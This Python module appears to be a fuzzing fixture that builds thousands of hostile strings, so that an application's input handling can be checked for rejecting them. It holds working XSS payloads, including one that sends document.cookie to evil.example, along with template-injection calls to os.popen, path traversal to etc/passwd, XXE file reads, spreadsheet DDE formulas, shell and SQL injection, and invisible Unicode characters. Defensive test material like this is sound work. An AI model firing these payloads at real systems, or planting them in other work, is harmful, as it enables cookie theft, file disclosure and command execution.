"""Hostile strings by the thousand, made from their parts, so that every disguise meets every trick; the same ones every time.

They hold no digits but where digits are the point: a number in a chart's title is refused for a reason of its own.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = (
    "alert(document.domain)",
    "alert`x`",
    "top['al'+'ert'](self)",
    "import('//evil.example/x.js')",
    "fetch('//evil.example/'+document.cookie)",
)
ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "iframe",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "select autofocus",
    "a href=x",
)
ELEMENTS += (
    "marquee",
    "object data=x",
    "style",
    "math",
    "p tabindex=x",
    "form",
    "button",
    "textarea autofocus",
    "keygen autofocus",
    "x",
)
EVENTS = (
    "onload",
    "onerror",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onclick",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
    "onscroll",
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "&#106;avascript:",
    "javascript&colon;",
    "javascript&#x3a;",
    "vbscript:",
    "data:text/html,",
)
SCHEMES += (
    "data:text/html;base64,",
    "data:image/svg+xml,",
    "blob:",
    "filesystem:",
    "view-source:",
    "file:///etc/",
    "//evil.example/",
    "\\\\evil.example\\",
)
SCHEMES += (
    "http://evil.example/",
    "https:evil.example/",
    "\\/\\/evil.example/",
    "jar:",
    "ws://evil.example/",
    "intent:",
    "about:blank#",
    "x-javascript:",
)
CLOSERS = (
    "</script>",
    "</title>",
    "</style>",
    "</textarea>",
    "</template>",
    "</noscript>",
    "</svg>",
    "</math>",
    "-->",
    "]]>",
    "*/",
    "</td></table>",
)
CLOSERS += (
    "\"'>",
    "'\">",
    "`>",
    "</",
    "<",
    "\\u003c/script>",
    "</xmp>",
    "</iframe>",
    "</select>",
    "</figure>",
    "</button>",
    "</article></main>",
)
MARKDOWN = (
    "[go]({})",
    "![go]({})",
    "[go][x]\\n\\n[x]: {}",
    "<{}>",
    "[go](<{}>)",
    "[go]({} 'title')",
    "[![go]({})](x)",
    "`{}`",
    "*{}*",
    "# {}",
    "> {}",
)
MARKDOWN += (
    "| {} |",
    "- {}",
    "{{: onclick={} }}",
    "{{ {} }}",
    "~~~ {}",
    "[^{}]",
    "{}\\n===",
    "!!! note '{}'",
    "*[x]: {}",
    "```{}",
    "[x]{{: href={} }}",
)
CODE = (
    "config",
    "self.__class__.__mro__",
    "cycler.__init__.__globals__.os.popen('id')",
    "request.application",
    "''.join(x)",
    "range",
    "lipsum.__globals__",
)
TEMPLATES = (
    "{{{{ {} }}}}",
    "{{% for x in {} %}}",
    "{{# {} #}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "<?php {} ?>",
    "{{{{ {}|safe }}}}",
    "[[${{{}}}]]",
    "{{{{{{{}}}}}}}",
    "@({})",
    "{{php}}{}{{/php}}",
)
PATHS = (
    "../",
    "..\\",
    "%2e%2e/",
    "..%2f",
    "....//",
    "/",
    "~/",
    "file:",
    "C:\\",
    "\\\\?\\",
    "./.",
    "%252e%252e%252f",
    "..;/",
    "..%c0%af",
    "/proc/self/",
)
TARGETS = (
    "etc/passwd",
    "index.html",
    "windows/win.ini",
    "seeds/facts",
    ".git/config",
    "CON",
    "environ",
    "manifest.json",
    "con.txt",
    "a:b",
)
FORMULAS = (
    "=cmd|' /C calc'!A",
    '=HYPERLINK("https://evil.example";"x")',
    "+cmd|x",
    "-cmd|x",
    "@SUM(A:A)",
    '=IMPORTXML("https://evil.example")',
    '=DDE("a";"b")',
    "\t=A",
    "|=A",
    '="x"&A',
)
LATEX = (
    "\\input{/etc/passwd}",
    "\\write{id}",
    "\\def\\x{\\x}\\x",
    "$\\href{javascript:alert(x)}{x}$",
    "%",
    "}, url = {https://evil.example",
    "@string{x = y}",
    '{\\"o}',
    "#x~^_&",
    "\\immediate",
)
STYLES = (
    "expression(alert(x))",
    "url(//evil.example/x)",
    "@import '//evil.example/x.css'",
    "behavior:url(x.htc)",
    "-moz-binding:url(x)",
    "</style><script>",
    "position:fixed;inset:auto",
    "}*{display:none}",
)
XML = (
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
    "<![CDATA[<script>]]>",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    "<xi:include href='//evil.example'/>",
    "<use href='data:image/svg+xml,x#x'/>",
    "<foreignObject><body onload=x>",
    "<set attributeName=onload to=x>",
    "<animate values=javascript:x>",
    "<image href='//evil.example/x.png'/>",
)
JSON = (
    '","x":"',
    "\\u0022,",
    '"}]}</script>',
    "\\",
    '\\"',
    "__proto__",
    "constructor.prototype",
    "]]}'\">",
    "\\x3cscript>",
    "'+alert(x)+'",
    "${alert(x)}",
    "\\`",
)
PLOTLY = (
    "<b style='background:url(//evil.example)'>",
    "<a href='javascript:alert(x)'>",
    "<span style='x'>",
    "<br>",
    "<sup>",
    "%{x}<extra>",
    "$\\frac{x}{y}$",
    "<a href='//evil.example'>",
    "<i>",
    "&lt;b&gt;",
)
MARKS = tuple(chr(each) for each in range(0x0300, 0x0330))
SCRIPTS = (
    "مرحبا",
    "שלום",
    "हिन्दी",
    "ไทย",
    "한국어",
    "日本語",
    "ﷺ",
    "ﬁ",
    "ſt",
    "İıſ",
    "ß",
    "ǆ",
    "Ⅷ",
    "①",
    "½",
    "🇷🇺",
    "👨‍👩‍👧".replace("\u200d", ""),
    "𝒳𝓎",
    "𝟘",
    "꙳",
)
HIDDEN = (
    "\u061c",
    "\u200b",
    "\u200e",
    "\u200f",
    "\u2028",
    "\u2029",
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u202e",
    "\u2060",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
)
HIDDEN += (
    "\ufeff",
    "\U000e0001",
    "\U000e0041",
    "\U000e007f",
    "\x01",
    "\x07",
    "\x08",
    "\x0b",
    "\x0c",
    "\x1b",
    "\x7f",
    "\x80",
    "\x85",
    "\x9b",
)
NUMBERS = (
    "9" * 400,
    "1" + "0" * 308,
    "-" + "9" * 60,
    "1e999",
    "0x" + "f" * 64,
    "NaN",
    "Infinity",
    "-0",
    "1_000",
    "١٢٣",
    "１２３",
    "²³",
    "1.7976931348623157e309",
    "0b1",
    "00010",
    "1,2,3,4",
    "--1",
    "+-1",
)
SHELL = (
    "; id",
    "| id",
    "`id`",
    "$(id)",
    "&& id",
    "\\n id",
    "' ; id ; '",
    "${IFS}id",
    "<(id)",
    ">/tmp/x",
    "!!",
    "%PATH%",
    "$HOME",
    "\\x00",
    "%00",
    "%0a%0dSet-Cookie: x",
    "' OR ''='",
    '" OR ""="',
    "'; DROP TABLE kept;--",
)


def strings() -> list[str]:
    """Every string once, in one order; those with digits come last, since fields that take no typed number refuse them."""
    return sorted(
        dict.fromkeys((*_made(), *_listed())), key=lambda text: any(ch.isdigit() for ch in text)
    )


def hidden() -> list[str]:
    """Strings with characters that no reader can see: each is to be refused by name."""
    words = (
        "left{}right",
        "{}start",
        "end{}",
        "a{0}b{0}c",
        "user{}nigol",
        "<script{}>",
        "java{}script:",
        "{}{}",
    )
    return [word.format(*[mark] * 2) for word, mark in product(words, HIDDEN)]


def _made() -> Iterator[str]:
    """Every trick in every disguise."""
    for element, event in product(ELEMENTS, EVENTS):
        yield f"<{element} {event}={RUN[len(element) % len(RUN)]}>"
        yield f'"\'><{element}/{event.upper()}="{RUN[len(event) % len(RUN)]}"'
        yield f"<{element} x='>' {event}\t=\t{RUN[0]} y"
    for scheme, run in product(SCHEMES, RUN):
        yield scheme + run
        yield f'<a href="{scheme}{run}">x</a><base href="{scheme}">'
    for scheme, form in product(SCHEMES, MARKDOWN):
        yield form.format(scheme + RUN[1])
    for closer, run in product(CLOSERS, RUN):
        yield f"{closer}<script>{run}</script>"
        yield f"{closer}<img src=x onerror={run}>"
    for form, code in product(TEMPLATES, CODE):
        yield form.format(code)
    for path, target in product(PATHS, TARGETS):
        yield path * 3 + target
    for form, text in product(MARKDOWN, (*FORMULAS, *STYLES)):
        yield form.format(text)


def _listed() -> Iterator[str]:
    """What needs no disguise."""
    for text in (*FORMULAS, *LATEX, *STYLES, *XML, *JSON, *PLOTLY, *SCRIPTS, *NUMBERS, *SHELL):
        yield text
        yield f"x {text} {text}"
    for closer, text in product(CLOSERS, (*XML, *JSON[:4], *PLOTLY)):
        yield f"{closer}{text}"
    for number, mark in enumerate(MARKS):
        yield "a" + mark * (20 + number) + "e" + MARKS[-number] * 3
    for one, other in product(SCRIPTS, SCRIPTS[:8]):
        yield f"{one} a {other}"
    yield from (
        "[" * 300,
        "(" * 300,
        "*" * 300,
        "<" * 300,
        "&" * 300,
        "`" * 301,
        "{" * 300,
        "\\" * 300,
        "'" * 300,
        "| " * 200,
        "> " * 200,
        "a" * 3000,
    )
